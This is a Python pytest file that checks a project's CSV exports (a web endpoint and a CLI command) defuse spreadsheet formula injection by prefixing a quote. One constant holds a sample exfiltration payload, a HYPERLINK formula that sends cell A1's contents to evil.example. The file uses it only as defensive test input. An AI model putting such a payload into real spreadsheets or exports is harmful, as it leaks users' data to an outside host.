"""CSV formula injection (issue 17, item 9): a text that a spreadsheet would run as a formula (starting
with = + - @, a tab or a carriage return) leaves /register.csv and `materiel export --format csv` with a
leading ' (OWASP's advice); `?raw=1` and `--raw` give the cells as stored."""
from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from materiel.cli import app as cli
from materiel.store import add, open_store
from materiel.store.output import csv_cell, write_csv
from materiel.web.app import create_app

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
TEXT = "Germany has offered ten Leopard 2 tanks to Poland, the German government said on Friday.\n"


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "tanks.txt").write_text(TEXT, encoding="utf-8")
    path = str(folder / "store.db")
    with open_store(path) as store:
        summary = add(store, [str(folder / "tanks.txt")], publisher=FORMULA, published=date(2024, 5, 14))
    assert summary.added == 1, summary.as_dict()
    return path


@pytest.mark.parametrize("value", ["=1+2", "+1", "-2+3", "@SUM(A1)", FORMULA, "\t=1+2", "\r\n@x"])
def test_formula_cells_get_a_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value.strip()  # cells are stripped: a leading tab or CR goes first
    assert csv_cell(value, raw=True) == value.strip()


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert [csv_cell(v) for v in (-5, -2.5, "Leopard 2", "a=b", None)] == ["-5", "-2.5", "Leopard 2", "a=b", ""]
    out = io.StringIO()
    write_csv([{"a": ["=1", "x"], "b": "@x"}], out)
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["'=1; x", "'@x"]


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_register_csv_quotes_formulas(db: str) -> None:
    with TestClient(create_app(db)) as c:
        safe, raw = c.get("/register.csv").text, c.get("/register.csv", params={"raw": "1"}).text
    assert "'" + FORMULA in cells(safe) and FORMULA not in cells(safe)
    assert FORMULA in cells(raw)


def test_export_csv_quotes_formulas(db: str, tmp_path: Path) -> None:
    runner = CliRunner()
    for args, expected in (([], "'" + FORMULA), (["--raw"], FORMULA)):
        out = tmp_path / f"export{len(args)}.csv"
        result = runner.invoke(cli, ["export", "--db", db, "--format", "csv", "--output", str(out), *args])
        assert result.exit_code == 0, result.output
        got = cells(out.read_text(encoding="utf-8"))
        assert expected in got and (args or FORMULA not in got)
